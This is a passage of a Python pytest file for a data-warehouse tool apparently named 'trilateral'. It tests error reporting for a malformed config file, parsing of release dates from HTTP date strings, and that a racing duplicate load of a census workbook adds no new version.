    assert code == 3 and where in line and f"field '{field}'" in line, line
    assert state(env) == before


def test_broken_config_file_names_it(capsys, env: Path, tmp_path: Path, monkeypatch) -> None:
    cfg = tmp_path / "config.toml"
    cfg.write_text("[http\ntimeout = 3\n")
    monkeypatch.setenv("TRILATERAL_CONFIG", str(cfg))
    code, _, err = run(["data", "refresh", "census-country"], capsys)
    assert code == 3 and str(cfg) in one_line(err)


def test_release_date_from_the_server_when_the_file_states_none(own_home: Path,
                                                                 tmp_path: Path) -> None:
    from trilateral.live.connectors.base import release_of
    from trilateral.warehouse import open_warehouse

    assert release_of("Wed, 21 Oct 2025 07:28:00 GMT") == "2025-10-21"
    assert release_of("yesterday") is None and release_of("") is None
    book = workbook(tmp_path / "with.xlsx", census_rows())
    plain = tmp_path / "country.xlsx"
    with zipfile.ZipFile(book) as src, zipfile.ZipFile(plain, "w") as dst:
        for info in src.infolist():
            if info.filename != "docProps/core.xml":
                dst.writestr(info, src.read(info))
    wh = open_warehouse(own_home)
    wh.load("census-country", plain, accept_revision="extract", release="2025-10-21")
    current = [r for r in wh.revisions("census_country") if r.get("current")]
    assert current[0]["release"] == "2025-10-21"


def test_a_second_load_of_the_same_file_racing_the_first_adds_nothing(
        own_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from trilateral.warehouse import open_warehouse
    from trilateral.warehouse.store import Warehouse

    book = workbook(tmp_path / "country.xlsx", census_rows())
    wh = open_warehouse(own_home)
    first = wh.load("census-country", book, accept_revision="extract")
    versions = len(wh.provenance("census_country"))
    # the second loader checked before the first committed: it saw no current copy of the file
    monkeypatch.setattr(Warehouse, "current_raw_inputs", lambda self, source_id: {})
    second = wh.load("census-country", book, accept_revision="extract")
    assert second.unchanged and not first.unchanged
    assert len(wh.provenance("census_country")) == versions
